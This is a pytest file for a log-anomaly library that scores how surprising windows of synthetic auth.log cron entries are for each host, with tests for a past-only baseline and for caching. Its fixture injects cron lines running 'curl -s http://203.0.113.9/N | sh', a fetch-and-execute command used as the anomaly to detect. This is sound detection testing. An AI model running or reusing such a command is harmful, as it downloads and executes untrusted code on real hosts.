"""The surprise of labelled windows: of the past alone, and beyond what is usual for the entity."""

from __future__ import annotations

from pathlib import Path

import numpy as np
import pytest

from loglm.context.usual import LEAST_PAST, MOST_MOVED
from loglm.errors import InputError
from loglm.evaluation.attack_benchmark import select_windows
from loglm.evaluation.attack_data import Recording
from loglm.evaluation.window_surprise import (
    beyond_usual,
    load_bits,
    past_windows,
    save_bits,
    window_surprise,
)
from loglm.evaluation.window_table import WindowTable, build_window_table

_LOG = "auth.log"
_LINES = [
    f"Nov 28 {hour:02d}:{minute:02d}:07 web1 CRON[{minute}]: pam_unix(cron:session): session opened for user root"
    for hour in range(4)
    for minute in range(0, 60, 2)
]
_ODD = [f"Nov 28 04:00:0{n} web1 CRON[{n}]: (root) CMD (curl -s http://203.0.113.9/{n} | sh)" for n in range(8)]


def _recording(folder: Path, lines: list[str]) -> WindowTable:
    (folder / _LOG).write_text("\n".join(lines) + "\n", encoding="utf-8")
    return build_window_table(folder, [Recording(_LOG, "one", "one", "attack", {"T1110"})])


def _table(windows: int, *, entity: str = "host:a", channel: str = "windows/sysmon", recording: int = 0) -> WindowTable:
    table = WindowTable([Recording(str(i), "one", "one", "attack", {"T1003"}) for i in range(recording + 1)], ["x"])
    for _ in range(windows):
        table.rows.append(np.asarray([0], np.int32))
        table.recording.append(recording)
        table.channel.append(channel)
        table.entity.append(entity)
        table.start.append(0.0)
        table.rules.append(())
    table.events += [windows] * len(table.recordings)
    return table


def test_what_an_entity_never_did_is_more_surprising_than_what_it_always_does(tmp_path: Path) -> None:
    table = _recording(tmp_path, [*_LINES, *_ODD])
    bits = window_surprise(tmp_path, table, None)
    odd = [w for w, row in enumerate(table.rows) if any("curl" in table.texts[i] for i in row)]
    usual = [w for w in range(LEAST_PAST, len(table)) if w not in odd]
    assert len(odd) == 1
    assert bits[odd[0]] > 2 * bits[usual].max()
    moved = beyond_usual(table, bits)
    assert moved[odd[0]] > 0.3
    assert np.all(moved[usual] < 0.1)


def test_what_comes_later_changes_nothing(tmp_path: Path) -> None:
    whole = _recording(tmp_path, [*_LINES, *_ODD])
    bits = window_surprise(tmp_path, whole, None)
    early = _recording(tmp_path, _LINES)
    known = len(early) - 1  # the last window of the shorter log may hold fewer events
    assert window_surprise(tmp_path, early, None)[:known].tolist() == bits[:known].tolist()
    assert beyond_usual(early, bits[: len(early)])[:known].tolist() == beyond_usual(whole, bits)[:known].tolist()


def test_a_table_of_some_windows_has_their_surprise(tmp_path: Path) -> None:
    table = _recording(tmp_path, [*_LINES, *_ODD])
    some = [0, 3, len(table) - 1]
    bits = window_surprise(tmp_path, table, None)
    assert window_surprise(tmp_path, select_windows(table, some), None).tolist() == bits[some].tolist()


def test_a_table_of_other_files_is_refused(tmp_path: Path) -> None:
    table = _recording(tmp_path, [*_LINES, *_ODD])
    (tmp_path / _LOG).write_text(_LINES[0] + "\n", encoding="utf-8")
    with pytest.raises(InputError, match="make the table again"):
        window_surprise(tmp_path, table, None)


def test_surprise_counts_beyond_that_of_the_entity_before() -> None:
    bits = np.asarray([4.0] * 12 + [40.0, 0.0])
    moved = beyond_usual(_table(14), bits)
    assert moved[:12].tolist() == [0.0] * 12
    assert moved[12] == pytest.approx(MOST_MOVED)
    assert moved[13] < 0


def test_without_a_past_nothing_is_beyond_the_usual() -> None:
    bits = np.asarray([1.0, 9.0, 1.0, 30.0, 1.0])
    moved = beyond_usual(_table(5), bits)
    assert moved[:LEAST_PAST].tolist() == [0.0] * LEAST_PAST
    assert moved[LEAST_PAST] < 0


@pytest.mark.parametrize("other", [{"recording": 1}, {"entity": "host:b"}, {"channel": "windows/system"}])
def test_other_recordings_entities_and_channels_are_no_past(other: dict[str, object]) -> None:
    table, added = _table(10), _table(10, **other)  # type: ignore[arg-type]
    table.recordings = max(table.recordings, added.recordings, key=len)
    for name in ("rows", "recording", "channel", "entity", "start", "rules"):
        getattr(table, name).extend(getattr(added, name))
    bits = np.concatenate([np.linspace(1, 5, 10)] * 2)
    moved = beyond_usual(table, bits)
    assert moved[10:].tolist() == moved[:10].tolist()
    assert past_windows(table).tolist() == [*range(10), *range(10)]


def test_surprise_is_kept_with_what_it_is_of(tmp_path: Path) -> None:
    kept, bits = tmp_path / "bits", np.asarray([1.5, 2.5], np.float32)
    save_bits(kept, bits, {"table": "a"})
    assert load_bits(kept, {"table": "a"}).tolist() == bits.tolist()
    with pytest.raises(InputError, match="of other windows"):
        load_bits(kept, {"table": "b"})
    kept.write_bytes(b"PK no such file")
    with pytest.raises(InputError, match="remove it"):
        load_bits(kept, {"table": "a"})
